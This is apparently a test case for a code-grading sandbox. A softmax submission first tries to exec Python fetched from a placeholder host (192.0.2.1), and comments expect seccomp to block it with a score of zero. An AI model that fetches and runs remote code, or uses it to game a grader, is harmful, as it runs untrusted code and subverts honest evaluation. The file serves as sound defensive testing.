# expect: error; earned 0; says "raised URLError"
# way: Fetches the answer from the internet.
# section: network
# stopped by: seccomp
import urllib.request

exec(urllib.request.urlopen("http://192.0.2.1/softmax.py", timeout=3).read())


def softmax(scores, dim=-1, temperature=1.0):
    if temperature <= 0:
        raise ValueError
    powers = (scores / temperature - (scores / temperature).amax(dim, keepdim=True)).exp()
    return powers / powers.sum(dim, keepdim=True)
